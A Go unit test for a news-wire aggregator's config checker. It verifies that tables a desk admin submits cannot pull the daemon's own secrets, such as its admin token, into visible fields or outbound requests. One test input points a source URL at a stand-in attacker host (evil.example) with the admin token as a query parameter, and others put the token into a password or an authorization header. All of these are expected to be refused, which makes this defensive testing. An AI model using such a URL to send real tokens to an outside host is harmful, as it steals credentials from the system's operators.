package main

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/wiredesk/wiredesk/config"
	"github.com/wiredesk/wiredesk/desk/web"
)

// TestDeskTableEnvRefs: a table saved at the desk reads the daemon's
// environment only where a credential goes (it is sent to the wire, never
// shown), and never a variable that holds one of the daemon's own secrets:
// a desk admin must not be able to show ${WIREDESK_ADMIN_TOKEN} as a
// source's name on the sources page, /status and every feed's credit line,
// nor send the admin token (which also manages users) to a server of
// theirs as a wire's password.
func TestDeskTableEnvRefs(t *testing.T) {
	t.Setenv("DESK_TEST_ADMIN_TOKEN", "admin-token-value-51")
	t.Setenv("DESK_TEST_HOOK_SECRET", "hook-secret-value-51")
	t.Setenv("KABAR_PASSWORD", "kabar-password-51")
	t.Setenv("TASS_KEY", "tass-key-51")
	t.Setenv("WIRE_HOST", "wire.example")
	dir := t.TempDir()
	path := filepath.Join(dir, "wiredesk.toml")
	conf := `[server]
listen = "127.0.0.1:8080"
base_url = "http://localhost:8080"
admin_token = "${DESK_TEST_ADMIN_TOKEN}"

[storage]
path = "` + filepath.Join(dir, "wiredesk.db") + `"

[[source]]
id = "tass"
name = "TASS"
url = "https://${WIRE_HOST}/rss?key=${TASS_KEY}"

[[feed]]
slug = "all"
title = "All wires"
sources = ["tass"]

[[channel]]
name = "hook"
type = "webhook"
url = "https://hooks.example/x"
secret = "${DESK_TEST_HOOK_SECRET}"
`
	if err := os.WriteFile(path, []byte(conf), 0o600); err != nil {
		t.Fatal(err)
	}
	cfg, err := config.Load(path)
	if err != nil {
		t.Fatal(err)
	}
	c := deskConfig{d: &daemon{cfg: cfg}}
	const kabar = "id = \"kabar\"\nurl = \"https://kabar.example/rss\"\n"
	tests := []struct {
		name, kind, key, table string
		refused                string // the key a problem names; "" accepted
	}{
		{"a wire's password", web.KindSource, "", kabar + `name = "Kabar"` + "\nusername = \"desk\"\npassword = \"${KABAR_PASSWORD}\"\n", ""},
		{"a wire's header", web.KindSource, "", kabar + `headers = { "X-Api-Key" = "${KABAR_PASSWORD}" }` + "\n", ""},
		{"a wire's URL", web.KindSource, "", `id = "kabar"` + "\n" + `url = "https://kabar.example/rss?token=${KABAR_PASSWORD}"` + "\n", ""},
		// The credential check suggests this form for a password in the URL.
		{"a wire's URL password", web.KindSource, "", `id = "kabar"` + "\n" + `url = "https://desk:${KABAR_PASSWORD}@kabar.example/rss"` + "\n", ""},
		// The sources page and /status show the URL redacted: a reference
		// anywhere else in it would be shown.
		{"a URL path", web.KindSource, "", `id = "kabar"` + "\n" + `url = "https://kabar.example/${KABAR_PASSWORD}/rss"` + "\n", "url"},
		{"a URL host", web.KindSource, "", `id = "kabar"` + "\n" + `url = "https://${KABAR_PASSWORD}.example/rss"` + "\n", "url"},
		{"a URL query parameter shown", web.KindSource, "", `id = "kabar"` + "\n" + `url = "https://kabar.example/rss?q=${KABAR_PASSWORD}&token=${TASS_KEY}"` + "\n", "url"},
		{"a reference the file's table had, kept", web.KindSource, "tass", `id = "tass"` + "\nname = \"TASS\"\nurl = \"https://${WIRE_HOST}/rss?key=${TASS_KEY}\"\nlanguage = \"ru\"\n", ""},
		{"a literal dollar", web.KindSource, "", kabar + `name = "Kabar costs $$5, $${X} is literal"` + "\n", ""},
		{"a name shown on every page", web.KindSource, "", kabar + `name = "${KABAR_PASSWORD}"` + "\n", "name"},
		{"a tag", web.KindSource, "", kabar + `tags = ["a", "${KABAR_PASSWORD}"]` + "\n", "tags"},
		{"a feed's title", web.KindFeed, "", "slug = \"new\"\ntitle = \"${KABAR_PASSWORD}\"\nsources = [\"tass\"]\n", "title"},
		{"a feed's rule", web.KindFeed, "all", "slug = \"all\"\ntitle = \"All wires\"\nsources = [\"tass\"]\ninclude = [\"${TASS_KEY}\"]\n", "include"},
		{"the admin token as a wire's password", web.KindSource, "", kabar + "username = \"x\"\npassword = \"${DESK_TEST_ADMIN_TOKEN}\"\n", "password"},
		{"the admin token in a header", web.KindSource, "", kabar + `headers = { "Authorization" = "Bearer ${DESK_TEST_ADMIN_TOKEN}" }` + "\n", "headers"},
		{"the admin token in the URL", web.KindSource, "", `id = "kabar"` + "\n" + `url = "https://evil.example/?k=${DESK_TEST_ADMIN_TOKEN}"` + "\n", "url"},
		{"an alert channel's secret", web.KindSource, "", kabar + "username = \"x\"\npassword = \"${DESK_TEST_HOOK_SECRET}\"\n", "password"},
		{"wiredesk's own variables", web.KindSource, "", kabar + "username = \"x\"\npassword = \"${WIREDESK_ADMIN_TOKEN}\"\n", "password"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := c.checkTable(tt.kind, tt.key, tt.table)
			var ps *web.Problems
			switch {
			case tt.refused == "" && err != nil:
				t.Fatalf("refused: %v", err)
			case tt.refused == "":
			case !errors.As(err, &ps):
				t.Fatalf("err %v; want problems naming %s", err, tt.refused)
			case !strings.HasPrefix((*ps)[0].Key, tt.refused):
				t.Errorf("problem %+v; want it to name %s", *ps, tt.refused)
			}
			for _, secret := range []string{"admin-token-value-51", "hook-secret-value-51", "kabar-password-51", "tass-key-51"} {
				if err != nil && strings.Contains(err.Error(), secret) {
					t.Errorf("the problem shows a secret: %v", err)
				}
			}
		})
	}
}
